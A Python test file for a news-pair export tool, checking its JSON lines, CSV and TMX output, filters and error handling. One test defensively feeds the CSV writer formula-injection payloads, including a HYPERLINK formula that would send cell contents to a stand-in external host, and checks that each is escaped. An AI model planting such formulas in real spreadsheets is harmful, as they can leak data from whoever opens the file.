"""`parallax export`: every format holds the same pairs, and another reader opens the TMX."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
import PythonTmx
from lxml import etree
from PythonTmx.utils import from_element

from service import cli
from service.export.csv import write as write_csv
from service.export.record import SIDE, Record
from service.settings import Settings
from service.store import judgements, pairs
from service.store.database import Store
from tests.rows import article, pair, plant

REASON = "“трёх” and “three” count the same."


@pytest.fixture
def stored(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """A store with one pair of each two languages; the ids by languages."""
    monkeypatch.setenv("PARALLAX_DATA_FOLDER", str(tmp_path / "data"))
    with Store.open(Settings()) as store, store.session(write=True) as session:
        ru, uk, en = plant(
            session,
            [article("ru"), article("uk", outlet="Вимір <і> \"Ко\" & 'я'"), article("en")],
        )
        rows = {
            "ru-uk": pair(ru, uk, probability=0.95),
            "ru-en": pair(ru, en, index=1, probability=0.8, relation="conflicting"),
            "uk-en": pair(uk, en, index=1, probability=0.6, reasons=[REASON]),
        }
        ids = {name: row.id for name, row in rows.items()}
        pairs.replace(session, "evt_one", list(rows.values()))
        judgements.add(session, ids["ru-uk"], "same", who="analyst")
    return ids


def export(capfd: pytest.CaptureFixture[str], *arguments: str, code: int = 0) -> str:
    assert cli.run(["export", *arguments]) == code
    return capfd.readouterr().out


def rows(shown: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in shown.splitlines()]


def test_json_lines_hold_both_sides_with_offsets_and_what_people_said(
    stored: dict[str, str], capfd: pytest.CaptureFixture[str]
) -> None:
    found = {row["id"]: row for row in rows(export(capfd))}
    assert set(found) == set(stored.values())
    judged = found[stored["ru-uk"]]
    assert (judged["judgement"], judged["judged_by"]) == ("same", "analyst")
    assert (judged["a"]["language"], judged["b"]["language"]) == ("ru", "uk")
    assert judged["a"]["text"] == "Ночью в Харькове прогремели взрывы"
    assert judged["b"]["outlet"] == "Вимір <і> \"Ко\" & 'я'"
    assert judged["b"]["published_at"] == "2026-01-20T12:00:00+00:00"
    with Store(Settings().store_url) as store, store.session() as session:
        from service.store import documents

        for side in (judged["a"], judged["b"]):
            text = documents.get(session, side["document_id"]).text
            assert text[side["start"] : side["end"]] == side["text"]
    assert found[stored["uk-en"]]["reasons"] == [REASON]


@pytest.mark.parametrize(
    ("options", "kept"),
    [
        (["--language", "uk"], {"ru-uk", "uk-en"}),
        (["--language", "en", "--language", "ru"], {"ru-en"}),
        (["--relation", "conflicting"], {"ru-en"}),
        (["--probability", "0.8"], {"ru-uk", "ru-en"}),
        (["--outlet", "outlet EN"], {"ru-en", "uk-en"}),
        (["--judgement", "none"], {"ru-en", "uk-en"}),
        (["--event", "evt_one", "--judgement", "same"], {"ru-uk"}),
    ],
)
def test_filters_keep_what_they_say(
    stored: dict[str, str], capfd: pytest.CaptureFixture[str], options: list[str], kept: set[str]
) -> None:
    assert {row["id"] for row in rows(export(capfd, *options))} == {stored[name] for name in kept}


def test_csv_holds_the_same_pairs_in_one_table(
    stored: dict[str, str], capfd: pytest.CaptureFixture[str]
) -> None:
    plain = rows(export(capfd))
    table = list(csv.DictReader(io.StringIO(export(capfd, "--format", "csv"))))
    assert [row["id"] for row in table] == [row["id"] for row in plain]
    assert [row["a_text"] for row in table] == [row["a"]["text"] for row in plain]
    assert [float(row["probability"]) for row in table] == [row["probability"] for row in plain]


@pytest.mark.parametrize(
    "words",
    [
        '=HYPERLINK("http://a.example/"&A1)',
        "+7 сказал он",
        "-- Мы не уйдём",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "-2+3",
    ],
)
def test_no_cell_of_the_table_is_a_formula(words: str) -> None:
    record = made_record(words)
    table = io.BytesIO()
    assert write_csv([record], table) == 1
    (row,) = csv.DictReader(io.StringIO(table.getvalue().decode(), newline=""))
    for name in ("a_text", "b_title", "reasons", "judged_by"):
        assert row[name] == f"'{words}"
    assert (row["a_start"], row["probability"]) == ("-1", "0.5")


@pytest.mark.parametrize("words", ["-5", "+3.5", "-0,25", "a=b", "— Мы не уйдём", "", "'-x"])
def test_numbers_and_other_words_are_written_as_they_are(words: str) -> None:
    table = io.BytesIO()
    write_csv([made_record(words)], table)
    (row,) = csv.DictReader(io.StringIO(table.getvalue().decode(), newline=""))
    assert row["a_text"] == words


def made_record(words: str) -> Record:
    """A pair in which people and outlets wrote these words everywhere they could."""
    side = {**dict.fromkeys(SIDE, words), "start": -1, "claims": [words]}
    return Record(
        id="pair_a",
        event_id="evt_a",
        group_id=None,
        relation="same",
        doubtful=False,
        probability=0.5,
        reasons=(words,),
        judgement="same",
        judged_by=words,
        a=side,
        b=side,
        parts={},
        missing=(),
        mode="comparable",
        algorithm="test",
        packages=(),
        encoder=None,
    )


def test_another_reader_opens_the_tmx(
    stored: dict[str, str], capfd: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "pairs.tmx"
    export(capfd, "-o", str(path))
    document = from_element(etree.parse(path).getroot())
    assert isinstance(document, PythonTmx.Tmx)
    assert document.header.segtype is PythonTmx.SEGTYPE.SENTENCE
    plain = {row["id"]: row for row in rows(export(capfd))}
    assert [unit.tuid for unit in document.tus] == list(plain)
    for unit in document.tus:
        row = plain[unit.tuid]
        segments = {variant.lang: "".join(map(str, variant.content)) for variant in unit.tuvs}
        assert segments == {side["language"]: side["text"] for side in (row["a"], row["b"])}
        props = {prop.type: prop.text for prop in unit.props}
        assert props["x-relation"] == row["relation"]
        assert props[f"x-{row['b']['language']}-outlet"] == row["b"]["outlet"]


def test_a_file_appears_whole_or_not_at_all(
    stored: dict[str, str],
    capfd: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    path = tmp_path / "pairs.jsonl"
    path.write_text("before")

    def full(*_: object) -> int:
        raise OSError(28, "No space left on device", str(path))

    monkeypatch.setattr("service.export.jsonl.write", full)
    assert cli.run(["export", "-o", str(path)]) == 6
    assert f"No space is left on the disk for {path}" in capfd.readouterr().err
    assert path.read_text() == "before"
    assert [each.name for each in tmp_path.iterdir() if each.name != "data"] == ["pairs.jsonl"]


def test_what_cannot_be_is_told(
    stored: dict[str, str], capfd: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert cli.run(["export", "-o", str(tmp_path / "no" / "pairs.tmx")]) == 3
    assert "There is no folder" in capfd.readouterr().err
    assert cli.run(["export", "--event", "evt_none"]) == 4
    assert cli.run(["export", "--language", "ru", "--language", "uk", "--language", "en"]) == 2


def test_a_pair_is_shown_with_both_originals_and_who_judged_it(
    stored: dict[str, str], capfd: pytest.CaptureFixture[str]
) -> None:
    assert cli.run(["show", stored["uk-en"]]) == 0
    shown = capfd.readouterr().out
    assert f"{stored['uk-en']}  same  probability 0.60" in shown
    assert "Уночі в Харкові пролунали вибухи" in shown
    assert "Explosions were heard in Kharkiv overnight" in shown
    assert f"because {REASON}" in shown
    assert cli.run(["show", stored["ru-uk"]]) == 0
    assert "analyst judged it same" in capfd.readouterr().out
    assert cli.run(["show", stored["ru-uk"], "--json"]) == 0
    assert json.loads(capfd.readouterr().out)["judgements"][0]["who"] == "analyst"
